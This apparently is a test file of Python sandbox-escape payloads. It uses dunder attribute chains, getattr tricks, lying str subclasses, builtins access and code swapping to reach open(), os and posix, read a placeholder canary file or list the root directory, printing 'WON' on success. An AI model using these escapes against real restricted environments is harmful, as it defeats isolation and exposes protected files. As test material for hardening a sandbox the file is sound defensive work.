# From an ordinary object to the interpreter by attributes with two underscores.
#### subclasses of object
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "BuiltinImporter":
        print("WON", kind.load_module("posix").listdir("/"))
#### mro of a string
print("WON", "".__class__.__mro__[1].__subclasses__()[0].__init__.__globals__["open"]("{canary}").read())
#### globals of a function
def f():
    pass
print("WON", f.__globals__["__builtins__"].open("{canary}").read())
#### globals of a method of the library
import torch
print("WON", torch.tensor.__globals__["np"].fromfile("{canary}", dtype="uint8"))
#### builtins by name
print("WON", __builtins__.open("{canary}").read())
#### builtins as a dict
print("WON", __builtins__["__import__"]("os").listdir("/"))
#### getattr with a constant (first)
print("WON", getattr(getattr((), "__class__"), "__base__").__subclasses__())
#### getattr with a name that is put together
cls = getattr((), "__cl" + "ass__")
print("WON", getattr(getattr(cls, "__ba" + "se__"), "__subcl" + "asses__")()[-1].__init__.__globals__["sys"].modules["os"].listdir("/"))
#### getattr with a string that lies about itself (first)
class Name(str):
    def __eq__(self, other):
        return False
    def __hash__(self):
        return 0
    def startswith(self, *a):
        return False
    def endswith(self, *a):
        return False
print("WON", getattr(object, Name("__subclasses__"))())
#### map over getattr
names = ["__class__", "__base__", "__subclasses__"]
thing = ()
for name in names:
    thing = list(map(getattr, [thing], [name]))[0]
print("WON", thing()[-1].__init__.__globals__["sys"].modules["os"].listdir("/"))
#### self of a builtin
print("WON", print.__self__.open("{canary}").read())
#### self of a guard (first)
print("WON", getattr.__self__.__dict__)
#### module of a class
import math
print("WON", math.__loader__.load_module("posix").listdir("/"))
#### spec of a module
import torch
print("WON", torch.__spec__.loader.get_data("{canary}"))
#### dict of a module (first)
import math
math.__dict__["sqrt"] = lambda x: 0
print("WON", math.sqrt(4))
#### closure of a decorated function
from functools import lru_cache
@lru_cache
def f():
    return 1
print("WON", f.__wrapped__.__globals__["__builtins__"]["open"]("{canary}").read())
#### reduce of an object
print("WON", (1).__reduce_ex__(2)[0].__globals__["sys"].modules["os"].listdir("/"))
#### code of a function replaced (first)
def f():
    return 1
def g():
    return "WON"
f.__code__ = g.__code__
print(f())
#### name mangling
class A:
    def look(self):
        return self.__class__.__base__.__subclasses__()
print("WON", A().look()[-1].__init__.__globals__["sys"].modules["os"].listdir("/"))
#### hidden names of the guards (first)
print("WON", __guard_write__)
#### guard names as keywords (first)
def f(__guard_write__=None):
    return 1
print("WON", f())
#### global statement on builtins (first)
def f():
    global __builtins__
    __builtins__ = {}
f()
print("WON")
#### attrgetter (first)
from operator import attrgetter
print("WON", attrgetter("__class__"))
#### attrgetter with a path (first)
from operator import attrgetter
print("WON", attrgetter("x.__globals__"))
#### attrgetter with a string that lies about itself (first)
from operator import attrgetter
class S(str):
    def split(self, *a): return ["x"]
print("WON", attrgetter(S("__class__")))
